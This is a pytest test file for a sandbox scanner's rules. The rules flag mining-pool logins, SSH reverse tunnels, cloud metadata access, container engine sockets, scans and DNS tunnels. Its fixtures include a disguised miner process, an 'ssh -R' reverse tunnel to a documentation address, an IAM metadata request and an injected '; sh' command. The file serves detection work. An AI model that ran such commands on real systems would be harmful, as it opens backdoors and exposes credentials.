"""Attempts judged: for each rule what it says, where and how bad, and a near miss that it leaves alone."""

import base64
import random
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.model import Confidence, Finding, Level, ProcessLocation, Severity
from scanner.model.run import Attempt, Endpoint, How, Namespace, Process, Query, Run
from scanner.runtime.attempts.dns_tunnel import DISORDER, _disorder
from scanner.runtime.attempts.judging import judge, rules, watches

GATEWAY = "172.17.0.1"
RESOLVER = Endpoint(GATEWAY, 53)
MINER = Process(41, 1, ("/tmp/.cache/kswapd", "--quiet"), executable=b"/tmp/.cache/kswapd", started=1.0)
RUN = Run(
    How.OBSERVE,
    "rome",
    0.0,
    60.0,
    processes=(
        MINER,
        Process(42, 1, ("ssh", "-N", "-R", "2222:localhost:22", "u@203.0.113.7"), executable=b"/usr/bin/ssh"),
    ),
    namespace=Namespace(resolvers=(GATEWAY,), routes=(f"default via {GATEWAY} dev eth0",)),
)


def found(
    attempts: Iterable[Attempt] = (), queries: Iterable[Query] = (), siblings: Sequence[str] = ()
) -> list[Finding]:
    run = replace(RUN, attempts=tuple(attempts), queries=tuple(queries))
    findings, notes = judge(run, "rome", siblings, [GATEWAY])
    assert notes == ()
    return list(findings)


def tcp(address: str, port: int, time: float = 2.0, **more: Any) -> Attempt:
    return Attempt(time, "tcp", Endpoint(address, port), **more)


STRATUM = tcp(
    "198.18.0.9",
    3333,
    name="pool.example",
    pid=41,
    service="stratum",
    details={"stratum": {"method": "login", "login": "4AbC…xyz", "agent": "XMRig/6.21.0", "dialect": "xmr"}},
    first=b'{"method":"login","params":{}}\n',
    count=3,
)
REVERSE = tcp(
    "203.0.113.7",
    22,
    pid=42,
    service="ssh",
    details={"ssh": {"client": "OpenSSH_9.2", "user": "u", "forwards": [{"bind": "", "port": 2222}]}},
    first=b"SSH-2.0-OpenSSH_9.2\r\n",
)


def test_stratum_is_a_pool_with_process_login_name_and_first_bytes() -> None:
    [finding] = found([STRATUM])

    assert (finding.rule_id, finding.severity, finding.confidence) == (
        "observed/pool",
        Severity.CRITICAL,
        Confidence.HIGH,
    )
    assert finding.locations == (ProcessLocation("rome", 41, MINER.command, b"/tmp/.cache/kswapd"),)
    assert finding.message == (
        "Stratum login to pool.example:3333 (198.18.0.9) by /tmp/.cache/kswapd --quiet (PID 41), 3 times: "
        "login 4AbC…xyz, agent XMRig/6.21.0."
    )
    assert finding.details["time"] == "1970-01-01T00:00:02.000Z"
    assert finding.details["port"] == 3333
    assert finding.details["first_bytes"] == '{"method":"login","params":{}}\\n'


def test_stratum_inside_of_tls_is_a_pool_as_well() -> None:
    [finding] = found([replace(STRATUM, service="stratum", details={**STRATUM.details, "layers": ["tls", "stratum"]})])
    assert finding.rule_id == "observed/pool"


def test_a_known_pool_by_name_is_a_hint_and_a_name_that_only_resembles_one_is_none() -> None:
    [by_name] = found([tcp("198.18.0.5", 443, name="xmr.supportxmr.com", service="tls", details={"tls": {"sni": "x"}})])
    [other] = found([tcp("198.18.0.6", 443, name="notsupportxmr.com", service="tls", details={"tls": {"sni": "x"}})])

    assert (by_name.rule_id, by_name.severity, by_name.confidence) == (
        "observed/pool",
        Severity.HIGH,
        Confidence.MEDIUM,
    )
    assert "supportxmr.com" in by_name.message
    assert other.rule_id == "observed/connection"


def test_a_pools_name_that_was_only_looked_up_is_told_once() -> None:
    question = Query(3.0, "pool.hashvault.pro.", "A", RESOLVER, pid=41, count=2)
    [finding] = found(queries=[question, replace(question, type="AAAA")])

    assert (finding.rule_id, finding.severity, finding.confidence) == ("observed/pool", Severity.MEDIUM, Confidence.LOW)
    assert "no connection followed" in finding.message
    assert found([tcp("198.18.0.7", 80, name="pool.hashvault.pro")], [question])[0].severity is Severity.HIGH


def test_a_remote_forward_is_a_reverse_tunnel_with_bind_and_port() -> None:
    [finding] = found([REVERSE])

    assert (finding.rule_id, finding.severity, finding.confidence) == (
        "observed/reverse-tunnel",
        Severity.CRITICAL,
        Confidence.HIGH,
    )
    assert finding.message == (
        "SSH to 203.0.113.7:22 as u by ssh -N -R 2222:localhost:22 u@203.0.113.7 (PID 42) asked the server to listen on "
        "localhost:2222 and to lead it back inside, once."
    )
    assert finding.details["forwards"] == ["localhost:2222"]


GIT = ("/usr/bin/ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@git.example", "git-upload-pack 'x/y.git'")


@pytest.mark.parametrize(
    ("said", "words", "rule", "severity"),
    [
        ({"exec": ["git-upload-pack 'x/y.git'"]}, GIT, "observed/connection", Severity.LOW),
        ({"client": "OpenSSH_9.2"}, GIT, "observed/connection", Severity.LOW),  # the server's key was not trusted
        ({"client": "OpenSSH_9.2"}, GIT[:4], "observed/tunnel", Severity.MEDIUM),
        ({"client": "OpenSSH_9.2"}, (GIT[0], "-D1080", *GIT[1:]), "observed/tunnel", Severity.MEDIUM),
        ({"exec": ["git-upload-pack 'x'; sh"]}, GIT, "observed/tunnel", Severity.MEDIUM),
        ({"exec": [GIT[-1]], "direct": [{"host": "h", "port": 1}]}, GIT, "observed/tunnel", Severity.HIGH),
        ({"exec": [GIT[-1]], "forwards": [{"bind": "", "port": 1}]}, GIT, "observed/reverse-tunnel", Severity.CRITICAL),
    ],
)
def test_git_over_ssh_is_a_connection_as_long_as_it_asks_for_nothing_else(
    said: dict[str, Any], words: tuple[str, ...], rule: str, severity: Severity
) -> None:
    attempt = replace(REVERSE, name="git.example", details={"ssh": said})
    run = replace(RUN, attempts=(attempt,), processes=(Process(42, 1, words, executable=b"/usr/bin/ssh"),))
    [finding], notes = judge(run, "rome", (), [GATEWAY])

    assert (finding.rule_id, finding.severity, notes) == (rule, severity, ())


def test_ssh_without_forwards_is_a_tunnel_of_less_weight() -> None:
    [session] = found([replace(REVERSE, details={"ssh": {"client": "OpenSSH_9.2", "exec": ["id"]}})])
    [direct] = found([replace(REVERSE, details={"ssh": {"direct": [{"host": "10.0.0.5", "port": 80}]}})])

    assert (session.rule_id, session.severity) == ("observed/tunnel", Severity.MEDIUM)
    assert "asked for a command" in session.message
    assert (direct.rule_id, direct.severity, direct.confidence) == ("observed/tunnel", Severity.HIGH, Confidence.HIGH)
    assert "10.0.0.5:80" in direct.message


@pytest.mark.parametrize(
    ("service", "details", "rule"),
    [
        ("tls", {"tls": {"sni": "connect.ngrok-agent.example", "family": "ngrok"}}, "observed/reverse-tunnel"),
        ("http", {"http": {"method": "GET", "family": "chisel"}}, "observed/reverse-tunnel"),
        ("frp", {"frp": {}}, "observed/reverse-tunnel"),
        ("wireguard", {}, "observed/tunnel"),
        ("tls", {"tls": {"family": "tor"}}, "observed/tunnel"),
        ("http", {"layers": ["socks5", "http"], "socks": {"target": "a.example:80"}}, "observed/tunnel"),
        ("http", {"http": {"method": "GET", "path": "/simple/"}}, "observed/connection"),
    ],
)
def test_tools_are_told_by_what_they_speak(service: str, details: dict[str, Any], rule: str) -> None:
    [finding] = found([tcp("203.0.113.8", 443, service=service, details=details)])
    assert finding.rule_id == rule


def test_metadata_is_told_with_what_was_asked_for() -> None:
    asked = {"http": {"method": "GET", "path": "/latest/meta-data/iam/"}}
    [finding] = found(
        [
            tcp("169.254.169.254", 80, service="http", details=asked, pid=41),
            tcp("169.254.169.254", 80, service="silent", pid=41),
        ]
    )
    [named] = found([tcp("198.18.0.3", 80, name="metadata.google.internal")])

    assert (finding.rule_id, finding.severity, finding.confidence) == (
        "observed/metadata",
        Severity.HIGH,
        Confidence.HIGH,
    )
    assert "GET /latest/meta-data/iam/" in finding.message
    assert finding.details["count"] == 2
    assert (named.rule_id, named.confidence) == ("observed/metadata", Confidence.MEDIUM)


@pytest.mark.parametrize("asked", ["169.254.169.254:80", "[fd00:ec2::254]:80", "metadata.google.internal:80"])
def test_metadata_through_a_proxy_is_metadata(asked: str) -> None:
    proxied = tcp(
        "198.18.0.4", 3128, name="proxy.example", service="http-connect", details={"proxy": {"target": asked}}
    )
    other = replace(proxied, details={"proxy": {"target": "pypi.example:443"}})
    [metadata, plain] = found([proxied, other])

    assert (metadata.rule_id, metadata.severity) == ("observed/metadata", Severity.HIGH)
    assert (
        f"{asked.rpartition(':')[0].strip('[]')} through proxy.example:3128 (198.18.0.4), a cloud's" in metadata.message
    )
    assert plain.rule_id != "observed/metadata"


def test_many_private_addresses_are_a_scan_and_few_are_not() -> None:
    probes = [tcp(f"10.0.0.{n}", 22, time=float(n), pid=41) for n in range(1, 21)]
    [scan] = found(probes)
    few = found(probes[:3])

    assert (scan.rule_id, scan.severity, scan.confidence) == ("observed/private-scan", Severity.HIGH, Confidence.HIGH)
    assert "20 private addresses" in scan.message
    assert [f.rule_id for f in few] == ["observed/private-network"] * 3
    assert {f.severity for f in few} == {Severity.MEDIUM}


def test_many_ports_of_one_private_address_are_a_scan_beside_a_service_that_is_none() -> None:
    service = tcp("198.18.0.4", 5432, name="db.internal")
    findings = found([service, *(tcp("192.168.7.7", port) for port in range(20, 60))])

    assert [f.rule_id for f in findings] == ["observed/private-scan", "observed/private-network"]
    assert "40 ports" in findings[0].message
    assert "192.168.7.7" in findings[0].message
    assert findings[1].severity is Severity.LOW


def test_a_sibling_is_no_private_network_and_nothing_to_report() -> None:
    assert found([tcp("198.18.0.4", 5432, name="db")], siblings=["db"]) == []
    assert [f.rule_id for f in found([tcp("198.18.0.4", 5432, name="db")])] == ["observed/private-network"]


def test_the_engines_port_on_the_host_is_told_apart_from_the_hosts_other_services() -> None:
    asked = tcp(GATEWAY, 2375, service="http", details={"http": {"method": "GET", "path": "/containers/json"}})
    [engine, host] = found([asked, tcp(GATEWAY, 8080)])
    [silent] = found([tcp(GATEWAY, 2375)])
    [outside] = found([tcp("203.0.113.4", 6443)])

    assert (engine.rule_id, engine.severity, engine.confidence) == (
        "observed/engine",
        Severity.CRITICAL,
        Confidence.HIGH,
    )
    assert (host.rule_id, host.severity) == ("observed/host", Severity.MEDIUM)
    assert (silent.rule_id, silent.severity) == ("observed/engine", Severity.HIGH)
    assert outside.rule_id == "observed/connection"


@pytest.mark.parametrize(
    ("path", "engine"),
    [
        ("/v1.43/containers/json?all=1", True),
        ("/libpod/info", True),
        ("/v5.0.0/libpod/containers/json", True),
        ("http://docker/images/json", True),
        ("/debian/pool/main/libp/libpod/podman_4.3.1+ds1-8+deb12u1_amd64.deb", False),
        ("/docs/containers/json.html", False),
    ],
)
def test_an_engines_api_is_known_by_how_its_paths_begin(path: str, engine: bool) -> None:
    asked = tcp("198.18.0.7", 80, name="deb.example", service="http", details={"http": {"method": "GET", "path": path}})
    [finding] = found([asked])
    assert (finding.rule_id == "observed/engine") is engine


def test_a_kind_that_fails_leaves_its_attempts_to_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(attempt: Attempt, _: object) -> bool:
        raise ValueError(attempt.target.address)

    kinds = tuple(replace(w, takes=broken) if w.name == "reverse_tunnel" else w for w in watches())
    monkeypatch.setattr("scanner.runtime.attempts.judging.watches", lambda: kinds)
    findings, [note] = judge(replace(RUN, attempts=(STRATUM, REVERSE)), "rome", (), [GATEWAY])

    assert [f.rule_id for f in findings] == ["observed/pool", "observed/connection"]
    assert (note.level, note.incomplete) == (Level.ERROR, True)
    assert note.message == "attempts of the kind reverse_tunnel could not be judged: ValueError: 203.0.113.7"


def test_echo_requests_that_carry_data_are_no_ping() -> None:
    def echo(size: int, count: int = 4) -> Attempt:
        return Attempt(1.0, "icmp", Endpoint("203.0.113.9"), details={"icmp": {"sizes": [size]}}, count=count)

    [ping] = found([echo(56)])
    [tunnel] = found([echo(size, 20) for size in (84, 300, 900, 1300, 1399)])

    assert (ping.rule_id, ping.severity) == ("observed/icmp-tunnel", Severity.NOTE)
    assert (tunnel.severity, tunnel.confidence) == (Severity.HIGH, Confidence.HIGH)


def test_other_protocols_are_named() -> None:
    [finding] = found([Attempt(1.0, "ip-47", Endpoint("203.0.113.9"))])
    assert (finding.rule_id, finding.severity) == ("observed/odd-protocol", Severity.MEDIUM)
    assert finding.message.startswith("ip-47 to 203.0.113.9")


@pytest.mark.parametrize(
    ("protocol", "result", "severity"),
    [
        ("vsock", "EPERM", Severity.MEDIUM),
        ("vsock", "granted", Severity.HIGH),
        ("packet", "EPERM", Severity.LOW),
        ("raw", "granted", Severity.MEDIUM),
        ("io_uring", "EPERM", Severity.NOTE),
    ],
)
def test_what_the_kernel_was_asked_for_weighs_by_what_it_leads_to(
    protocol: str, result: str, severity: Severity
) -> None:
    call = Attempt(1.0, protocol, Endpoint("AF_X"), pid=41, details={"call": f"socket({protocol})", "result": result})
    [finding] = found([call])

    assert (finding.rule_id, finding.severity) == ("observed/odd-protocol", severity)
    assert finding.message.startswith(f"socket({protocol}) was ")
    assert "(PID 41)" in finding.message


def test_the_engines_socket_is_an_attempt_though_it_is_not_there_and_another_socket_is_none() -> None:
    def connect(path: str, result: str = "ENOENT") -> Attempt:
        return Attempt(1.0, "unix", Endpoint(path), pid=41, details={"call": "connect", "result": result})

    [finding] = found([connect("/var/run/docker.sock"), connect("/var/run/nscd/socket"), connect("/tmp/mine.sock")])
    [granted] = found([connect("/run/containerd/containerd.sock", "granted")])

    assert (finding.rule_id, finding.severity, finding.confidence) == (
        "observed/engine",
        Severity.HIGH,
        Confidence.MEDIUM,
    )
    assert finding.details["count"] == 1
    assert "/var/run/docker.sock, where Docker is commanded" in finding.message
    assert (granted.severity, granted.confidence) == (Severity.CRITICAL, Confidence.HIGH)


def _carrying(number: int, domain: str) -> list[Query]:
    random_bytes = random.Random(7)
    return [
        Query(
            float(n),
            f"{base64.b32encode(random_bytes.randbytes(30)).decode().rstrip('=').lower()}.{n}.{domain}",
            "TXT",
            RESOLVER,
            pid=41,
        )
        for n in range(number)
    ]


def test_a_stream_of_disorderly_names_is_a_tunnel_at_the_domain_that_answers() -> None:
    [finding] = found(queries=_carrying(80, "t.example.net"))

    assert (finding.rule_id, finding.severity, finding.confidence) == (
        "observed/dns-tunnel",
        Severity.HIGH,
        Confidence.HIGH,
    )
    assert finding.details["domain"] == "example.net"
    assert finding.details["names"] == 80
    assert "TXT" in finding.message


def test_many_ordinary_names_below_one_domain_are_none() -> None:
    hosts = [f"ec2-198-51-100-{n}.eu-central-1.compute" for n in range(100)]
    wheels = [f"{word}-{n}.files" for n in range(20) for word in ("numpy", "pandas", "requests", "setuptools")]

    assert found(queries=[Query(1.0, f"{h}.example.com", "A", RESOLVER) for h in (*hosts, *wheels)]) == []
    assert found(queries=_carrying(5, "cdn.example.net")) == []


@pytest.mark.parametrize("encoded", [base64.b32encode, base64.b16encode])
def test_the_usual_encodings_lie_above_and_words_of_a_language_below_the_line(
    encoded: Callable[[bytes], bytes],
) -> None:
    chance = random.Random(3)
    licence = (Path(__file__).parents[3] / "LICENSE").read_text()
    stems = sorted(set(re.findall(r"[a-z]{3,}", licence.lower())))
    words = ["-".join(chance.sample(stems, 4)) for _ in range(60)]
    data = [encoded(chance.randbytes(20)).decode().strip("=").lower() for _ in range(60)]

    assert _disorder(words) < DISORDER < _disorder(data)
    assert [f.rule_id for f in found(queries=[Query(1.0, f"{d}.example.net", "A", RESOLVER) for d in data])] == [
        "observed/dns-tunnel"
    ]
    assert found(queries=[Query(1.0, f"{w}.example.net", "A", RESOLVER) for w in words]) == []


def test_a_resolver_of_its_own_choice_is_told_and_the_sandboxs_own_is_not() -> None:
    own = Query(1.0, "pypi.example", "A", RESOLVER)
    other = Query(2.0, "pypi.example", "A", Endpoint("198.51.100.53", 53), pid=41)
    multicast = Query(3.0, "printer.local", "A", Endpoint("224.0.0.251", 5353))

    [finding] = found(queries=[own, other, multicast])

    assert (finding.rule_id, finding.severity) == ("observed/foreign-resolver", Severity.MEDIUM)
    assert "198.51.100.53:53" in finding.message


def test_names_over_https_and_tls_are_a_foreign_resolver() -> None:
    doh = tcp("203.0.113.53", 443, service="http", details={"layers": ["tls", "http"], "http": {"doh": "a.example"}})
    [over_https] = found([doh])
    [over_tls] = found([tcp("203.0.113.53", 853, service="tls")])

    assert (over_https.rule_id, over_https.confidence) == ("observed/foreign-resolver", Confidence.HIGH)
    assert "a.example" in over_https.message
    assert (over_tls.rule_id, over_tls.confidence) == ("observed/foreign-resolver", Confidence.MEDIUM)


def test_a_stream_of_names_over_https_is_a_tunnel_and_its_server_told_once() -> None:
    server = Endpoint("198.18.0.53", 443)
    doh = Attempt(
        1.0,
        "tcp",
        server,
        name="dns.example",
        service="http",
        details={"layers": ["tls", "http"], "http": {"doh": "last.example"}},
    )
    queries = [replace(q, server=server, transport="tcp") for q in _carrying(70, "t.example.net")]
    tunnel, resolver = found([doh], queries)

    assert (tunnel.rule_id, tunnel.severity) == ("observed/dns-tunnel", Severity.HIGH)
    assert resolver.rule_id == "observed/foreign-resolver"
    assert resolver.message.startswith("dns.example:443 (198.18.0.53) was asked for names over an encrypted or odd way")
    assert "last.example" in resolver.message
    assert queries[0].name in str(resolver.details["names"])


def test_ordinary_clients_are_low_and_unknown_bytes_to_a_bare_address_are_not() -> None:
    fetch = tcp(
        "198.18.0.2", 443, name="pypi.org", service="http", details={"http": {"method": "GET", "path": "/simple/"}}
    )
    bare = tcp("203.0.113.77", 4444, service="unknown", first=b"\x00\x01")
    [low, medium] = found([fetch, replace(fetch, time=3.0), bare])

    assert (low.rule_id, low.severity) == ("observed/connection", Severity.LOW)
    assert low.details["count"] == 2
    assert "GET /simple/" in low.message
    assert (medium.severity, medium.details["services"]) == (Severity.MEDIUM, ["unknown"])


def test_hosts_without_end_are_told_one_by_one_up_to_a_bound_and_then_as_one() -> None:
    bare = [tcp(f"203.0.113.{n}", 4444, time=1000.0 + n, service="unknown") for n in range(1, 21)]
    named = [tcp("198.18.1.1", 443, time=float(n), name=f"a{n}.example", service="tls") for n in range(300)]
    findings = found([*named, *bare])

    assert len(findings) == 101
    assert sum(f.details["count"] for f in findings) == 320
    assert sum(f.severity is Severity.MEDIUM for f in findings) == 20  # none of what weighs more is among the rest
    [rest] = [f for f in findings if "more hosts" in f.message]
    assert rest.message.startswith("220 more hosts outside were tried 220 times: a80.example, a81.example")
    assert len(rest.details["hosts"]) == 220
    assert found(named[:3])[0].fingerprint == next(f for f in findings if "a0.example" in f.message).fingerprint


def test_what_stays_in_the_sandbox_is_no_attempt_to_leave_it() -> None:
    assert found([tcp("127.0.0.1", 8000), tcp("::1", 8000)]) == []


def test_fingerprints_last_over_runs_and_tell_hosts_apart() -> None:
    again = replace(STRATUM, time=50.0, pid=None, count=1, target=Endpoint("198.18.0.77", 3333))
    other = replace(STRATUM, name="other.example")

    assert found([STRATUM])[0].fingerprint == found([again])[0].fingerprint
    assert found([STRATUM])[0].fingerprint != found([other])[0].fingerprint


def test_every_rule_belongs_to_one_kind_and_has_its_help() -> None:
    ids = [r.id for w in watches() for r in w.rules]
    assert len(ids) == len(set(ids)) == len(rules())
    assert all(r.id.startswith("observed/") and r.help.endswith(".") and r.attack for r in rules())


KEYS = (
    "ssh",
    "tls",
    "http",
    "stratum",
    "socks",
    "proxy",
    "layers",
    "forwards",
    "direct",
    "path",
    "family",
    "target",
    "sni",
    "icmp",
    "sizes",
    "doh",
)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=4),
    max_leaves=8,
)
ATTEMPTS = st.builds(
    Attempt,
    time=st.floats(-1e12, 1e12),
    protocol=st.sampled_from(("tcp", "udp", "icmp", "icmp6", "ip-47", "sctp", "vsock", "")),
    target=st.builds(
        Endpoint,
        st.sampled_from(("203.0.113.1", "10.0.0.1", "169.254.169.254", GATEWAY, "fe80::1%eth0", "", "x"))
        | st.text(max_size=10),
        st.none() | st.integers(0, 65535),
    ),
    name=st.none() | st.text(max_size=20) | st.just("pool.hashvault.pro"),
    pid=st.none() | st.integers(0, 50),
    service=st.sampled_from(("ssh", "tls", "http", "stratum", "silent", "unknown", "socks5", "dns")),
    details=st.dictionaries(st.sampled_from(KEYS), JSON, max_size=4),
    first=st.binary(max_size=20),
    count=st.integers(1, 5),
)
QUERIES = st.builds(
    Query,
    time=st.floats(0, 1e9),
    name=st.text(max_size=80),
    type=st.text(max_size=5),
    server=st.builds(Endpoint, st.text(max_size=10), st.none() | st.integers(0, 65535)),
)


@given(st.lists(ATTEMPTS, max_size=12), st.lists(QUERIES, max_size=12))
def test_whatever_was_tried_no_judge_fails_and_every_attempt_that_left_is_told(
    attempts: list[Attempt], queries: list[Query]
) -> None:
    findings = found(attempts, queries)

    assert all(f.message.isprintable() for f in findings)
    told = sum(
        count
        for f in findings
        if f.rule_id not in ("observed/dns-tunnel", "observed/foreign-resolver") and "looked up" not in f.message
        if isinstance(count := f.details["count"], int)
    )
    assert told <= sum(a.count for a in attempts)
